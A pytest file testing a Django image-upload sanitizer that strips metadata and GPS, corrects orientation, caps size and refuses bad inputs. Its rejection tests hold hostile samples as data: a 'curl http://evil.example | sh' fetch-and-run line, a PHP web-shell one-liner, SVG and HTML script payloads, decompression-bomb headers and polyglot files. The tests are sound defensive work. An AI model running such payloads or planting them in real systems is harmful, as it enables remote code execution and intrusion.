"""Tests for observations.images: every input is built here with Pillow, no binary fixtures."""

from __future__ import annotations

import dataclasses
import io
import struct
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from PIL import ExifTags, Image, ImageCms, ImageFile, PngImagePlugin

from observations import images
from observations.images import (
    IMAGE_TOO_LARGE,
    UNSUPPORTED_IMAGE,
    SanitizedImage,
    read_upload,
    sanitize_image,
)

RED = (220, 20, 20)
BLUE = (20, 20, 220)
XMP_MARKER = b"http://ns.adobe.com/xap/1.0/"
XMP_PACKET = (
    b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description xmlns:xmp="http://ns.adobe.com/xap/1.0/" xmp:CreatorTool="SecretTool"/>'
    b'</rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
)
# Strings planted in the metadata of test inputs; none may survive into an output.
SECRETS = (b"SecretPhone", b"SECRET-DATUM", b"SecretTool", b"Secret Teacher", b"xmpmeta")
FORBIDDEN_INFO_KEYS = ("exif", "xmp", "XML:com.adobe.xmp", "comment", "icc_profile", "Author")


# --- building inputs ---------------------------------------------------------------------


def two_tone(size: tuple[int, int] = (60, 40), mode: str = "RGB") -> Image.Image:
    """Left half red, right half blue, so a rotation is visible in the output."""
    im = Image.new("RGB", size, RED)
    im.paste(BLUE, (size[0] // 2, 0, size[0], size[1]))
    return im.convert(mode) if mode != "RGB" else im


def camera_exif(orientation: int = 6) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "SecretPhone"
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (52.0, 22.0, 1.5),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (4.0, 53.0, 2.5),
        ExifTags.GPS.GPSMapDatum: "SECRET-DATUM",
    }
    return exif


def encode(im: Image.Image, fmt: str, **params) -> bytes:
    out = io.BytesIO()
    im.save(out, format=fmt, **params)
    return out.getvalue()


def srgb_icc() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def phone_jpeg() -> bytes:
    data = encode(
        two_tone(),
        "JPEG",
        exif=camera_exif(orientation=6),
        xmp=XMP_PACKET,
        comment=b"<script>alert(1)</script>",
        icc_profile=srgb_icc(),
        quality=95,
    )
    # Guard the test itself: the input really carries what must be stripped.
    assert b"Exif" in data
    assert XMP_MARKER in data
    assert b"SECRET-DATUM" in data
    return data


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_declaring(width: int, height: int) -> bytes:
    """A tiny valid-looking PNG whose IHDR claims ``width`` x ``height`` pixels."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit greyscale
    idat = zlib.compress(b"\x00\x00", 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )


def heif_save_available() -> bool:
    return "HEIF" in Image.SAVE


def opened(result: SanitizedImage) -> Image.Image:
    im = Image.open(io.BytesIO(result.content))
    im.load()
    return im


def assert_clean(data: bytes) -> None:
    """No EXIF, GPS, XMP, comment or planted string anywhere in an output JPEG."""
    im = Image.open(io.BytesIO(data))
    assert im.format == "JPEG"
    assert len(im.getexif()) == 0
    assert im.getexif().get_ifd(ExifTags.IFD.GPSInfo) == {}
    for key in FORBIDDEN_INFO_KEYS:
        assert key not in im.info, key
    assert b"Exif" not in data
    assert b"GPS" not in data
    assert XMP_MARKER not in data
    for secret in SECRETS:
        assert secret not in data, secret


def close_to(actual: tuple[int, ...], expected: tuple[int, ...], tolerance: int = 40) -> bool:
    return all(abs(a - e) <= tolerance for a, e in zip(actual, expected, strict=True))


def refused(data: bytes, **limits) -> ValidationError:
    with pytest.raises(ValidationError) as excinfo:
        sanitize_image(data, **limits)
    return excinfo.value


# --- accepted inputs -----------------------------------------------------------------------


def test_jpeg_from_phone_loses_all_metadata_and_is_rotated_upright():
    result = sanitize_image(phone_jpeg())

    assert result.source_format == "JPEG"
    assert result.content_type == "image/jpeg"
    assert_clean(result.content)
    assert_clean(result.thumbnail)
    # Orientation 6: stored 60x40, displayed rotated 90 degrees clockwise -> 40x60 with the
    # stored left (red) half on top.
    assert (result.width, result.height) == (40, 60)
    im = opened(result)
    assert im.size == (40, 60)
    assert close_to(im.getpixel((20, 10)), RED)
    assert close_to(im.getpixel((20, 50)), BLUE)


def test_png_text_chunks_and_exif_are_stripped():
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Secret Teacher")
    info.add_text("Comment", "Secret Teacher wrote this", zip=True)
    info.add_itxt("XML:com.adobe.xmp", XMP_PACKET.decode())
    data = encode(two_tone(), "PNG", pnginfo=info, exif=camera_exif(orientation=1))
    assert b"Secret Teacher" in data

    result = sanitize_image(data)

    assert result.source_format == "PNG"
    assert (result.width, result.height) == (60, 40)
    assert_clean(result.content)
    assert_clean(result.thumbnail)


def test_png_transparency_is_flattened_on_white():
    im = Image.new("RGBA", (20, 20), (0, 0, 0, 0))
    im.paste((0, 0, 255, 255), (0, 0, 10, 20))

    out = opened(sanitize_image(encode(im, "PNG", icc_profile=srgb_icc())))

    assert out.mode == "RGB"
    assert close_to(out.getpixel((15, 10)), (255, 255, 255))
    assert close_to(out.getpixel((3, 10)), (0, 0, 255))


def test_palette_png_with_transparent_index_is_flattened_on_white():
    im = Image.new("P", (16, 16), 0)
    im.putpalette([0, 0, 0, 0, 200, 0] + [0] * 762)
    im.paste(1, (0, 0, 8, 16))
    data = encode(im, "PNG", transparency=0)

    out = opened(sanitize_image(data))

    assert close_to(out.getpixel((12, 8)), (255, 255, 255))
    assert close_to(out.getpixel((3, 8)), (0, 200, 0))


def test_sixteen_bit_greyscale_png_is_scaled_not_clipped():
    im = Image.new("I;16", (16, 16), 32768)

    out = opened(sanitize_image(encode(im, "PNG")))

    assert close_to(out.getpixel((8, 8)), (128, 128, 128), tolerance=3)


def test_webp_is_accepted_and_stripped():
    data = encode(two_tone(), "WEBP", exif=camera_exif(orientation=1), xmp=XMP_PACKET)
    assert b"SECRET-DATUM" in data

    result = sanitize_image(data)

    assert result.source_format == "WEBP"
    assert (result.width, result.height) == (60, 40)
    assert_clean(result.content)


def test_cmyk_jpeg_becomes_rgb():
    result = sanitize_image(encode(two_tone(mode="CMYK"), "JPEG"))

    im = opened(result)
    assert im.mode == "RGB"
    assert close_to(im.getpixel((10, 20)), RED, tolerance=60)


def test_unusable_icc_profile_is_dropped_not_fatal():
    data = encode(two_tone(), "JPEG", icc_profile=b"not really an ICC profile" * 10)

    result = sanitize_image(data)

    assert_clean(result.content)


def test_large_photo_is_capped_and_thumbnail_made():
    data = encode(two_tone((5000, 2500)), "JPEG", quality=70)

    result = sanitize_image(data)

    assert (result.width, result.height) == (2048, 1024)
    assert opened(result).size == (2048, 1024)
    assert (result.thumbnail_width, result.thumbnail_height) == (320, 160)
    thumb = Image.open(io.BytesIO(result.thumbnail))
    assert (thumb.format, thumb.size) == ("JPEG", (320, 160))


def test_max_side_and_thumbnail_side_are_configurable():
    result = sanitize_image(encode(two_tone((300, 150)), "PNG"), max_side=100, thumbnail_side=30)

    assert (result.width, result.height) == (100, 50)
    assert (result.thumbnail_width, result.thumbnail_height) == (30, 15)


def test_result_is_frozen_and_repr_has_no_bytes():
    result = sanitize_image(encode(two_tone(), "PNG"))

    with pytest.raises(dataclasses.FrozenInstanceError):
        result.width = 1  # type: ignore[misc]
    assert "content=" not in repr(result)
    assert "b'" not in repr(result)
    assert result.extension == "jpg"


# --- HEIC / HEIF ---------------------------------------------------------------------------


def heic(im: Image.Image, **params) -> bytes:
    if not heif_save_available():
        pytest.skip("pillow-heif on this machine has no HEVC encoder, so no HEIC can be built")
    return encode(im, "HEIF", quality=90, **params)


def test_heic_is_accepted():
    result = sanitize_image(heic(two_tone()))

    assert result.source_format == "HEIF"
    assert (result.width, result.height) == (60, 40)
    assert_clean(result.content)


def test_heic_with_exif_gps_and_xmp_is_stripped_and_rotated_once():
    data = heic(two_tone(), exif=camera_exif(orientation=6).tobytes(), xmp=XMP_PACKET)
    assert b"SECRET-DATUM" in data
    assert b"xmpmeta" in data

    result = sanitize_image(data)

    assert_clean(result.content)
    assert_clean(result.thumbnail)
    # pillow-heif turns the EXIF orientation into the container's rotation; libheif applies
    # it on decode, and it must not be applied a second time from the EXIF.
    im = opened(result)
    assert im.size == (40, 60)
    assert close_to(im.getpixel((20, 10)), RED)
    assert close_to(im.getpixel((20, 50)), BLUE)


def test_truncated_heic_is_refused():
    data = heic(two_tone((64, 64)))

    for cut in (len(data) // 2, len(data) - 10):
        assert refused(data[:cut]).code == UNSUPPORTED_IMAGE


def test_heic_over_pixel_limit_is_refused_before_decoding(monkeypatch):
    import pillow_heif.as_plugin

    data = heic(two_tone((64, 64)))
    monkeypatch.setattr(pillow_heif.as_plugin._LibHeifImageFile, "load", _must_not_decode)

    assert refused(data, max_pixels=64 * 64 - 1).code == IMAGE_TOO_LARGE


# --- refused inputs ------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["GIF", "BMP", "TIFF", "ICO", "PPM", "TGA"])
def test_other_image_formats_are_refused(fmt):
    error = refused(encode(two_tone((32, 32)), fmt))

    assert error.code == UNSUPPORTED_IMAGE
    assert "JPEG, PNG, WebP or HEIC" in error.message


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"", id="empty"),
        pytest.param(b"#!/bin/sh\ncurl http://evil.example | sh\n", id="script-renamed-jpg"),
        pytest.param(b"<?php system($_GET['c']); ?>", id="php"),
        pytest.param(
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>', id="svg"
        ),
        pytest.param(b"<html><script>alert(1)</script></html>" + b"\xff\xd8\xff", id="html"),
        pytest.param(b"\xff\xd8\xff\xe0" + b"\x00" * 20, id="jpeg-magic-only"),
        pytest.param(b"\x89PNG\r\n\x1a\n", id="png-signature-only"),
        pytest.param(b"RIFF\x00\x00\x00\x00WEBPVP8 ", id="webp-header-only"),
    ],
)
def test_non_images_are_refused(data):
    assert refused(data).code == UNSUPPORTED_IMAGE


def test_truncated_jpeg_is_refused():
    data = encode(two_tone((200, 200)), "JPEG")

    error = refused(data[: len(data) // 2])

    assert error.code == UNSUPPORTED_IMAGE
    assert "damaged or incomplete" in error.message


def test_truncated_png_is_refused():
    data = encode(two_tone((200, 200)), "PNG")

    assert refused(data[: len(data) // 2]).code == UNSUPPORTED_IMAGE


def test_decompression_bomb_png_is_refused_from_its_header(monkeypatch):
    data = png_declaring(50_000, 50_000)
    assert len(data) < 100
    monkeypatch.setattr(ImageFile.ImageFile, "load", _must_not_decode)

    error = refused(data)

    assert error.code == IMAGE_TOO_LARGE
    assert error.params["max_pixels"] == images.DEFAULT_MAX_PIXELS


def test_image_between_pillow_warning_and_error_limits_is_refused(monkeypatch):
    # 100 M pixels: above Image.MAX_IMAGE_PIXELS (89 M) but below Pillow's hard error (178 M);
    # a caller's higher limit must not let Pillow's mere warning through.
    monkeypatch.setattr(ImageFile.ImageFile, "load", _must_not_decode)

    error = refused(png_declaring(10_000, 10_000), max_pixels=500_000_000)

    assert error.code == IMAGE_TOO_LARGE


def test_pixel_limit_is_checked_before_decoding(monkeypatch):
    data = encode(two_tone((100, 100)), "JPEG")
    monkeypatch.setattr(ImageFile.ImageFile, "load", _must_not_decode)

    assert refused(data, max_pixels=9_999).code == IMAGE_TOO_LARGE


def test_webp_bomb_is_refused_before_pillow_opens_it(monkeypatch):
    # A VP8X header declaring a 12000x12000 canvas; libwebp would allocate it on open.
    data = bytearray(encode(two_tone((16, 16)), "WEBP", exif=camera_exif(orientation=1)))
    assert data[12:16] == b"VP8X"
    data[24:27] = (12_000 - 1).to_bytes(3, "little")
    data[27:30] = (12_000 - 1).to_bytes(3, "little")
    monkeypatch.setattr(Image, "open", _must_not_decode)

    assert refused(bytes(data)).code == IMAGE_TOO_LARGE


def test_too_many_bytes_is_refused_before_anything_else(monkeypatch):
    data = encode(two_tone((100, 100)), "PNG")
    monkeypatch.setattr(Image, "open", _must_not_decode)

    error = refused(data, max_bytes=len(data) - 1)

    assert error.code == IMAGE_TOO_LARGE
    assert error.params["max_bytes"] == len(data) - 1


def test_read_upload_stops_reading_past_the_limit():
    upload = io.BytesIO(b"x" * 10_000)

    with pytest.raises(ValidationError) as excinfo:
        read_upload(upload, max_bytes=1_000)

    assert excinfo.value.code == IMAGE_TOO_LARGE
    assert upload.tell() == 1_001
    assert read_upload(io.BytesIO(b"abc"), max_bytes=3) == b"abc"


# --- polyglots -----------------------------------------------------------------------------


def zip_payload() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_STORED) as archive:
        archive.writestr("payload.html", "<script>POLYGLOT-PAYLOAD</script>")
    return out.getvalue()


def test_jpeg_zip_polyglot_is_stored_clean():
    data = phone_jpeg() + zip_payload()
    assert zipfile.is_zipfile(io.BytesIO(data))

    try:
        result = sanitize_image(data)
    except ValidationError as error:
        assert error.code == UNSUPPORTED_IMAGE
        return
    for output in (result.content, result.thumbnail):
        assert b"POLYGLOT-PAYLOAD" not in output
        assert b"PK\x03\x04" not in output
        assert not zipfile.is_zipfile(io.BytesIO(output))
        assert_clean(output)


def test_png_with_payload_after_iend_is_stored_clean():
    data = encode(two_tone(), "PNG") + b"<script>POLYGLOT-PAYLOAD</script>"

    result = sanitize_image(data)

    assert b"POLYGLOT-PAYLOAD" not in result.content


def _must_not_decode(*args, **kwargs):
    raise AssertionError("the image must be refused before it is decoded")
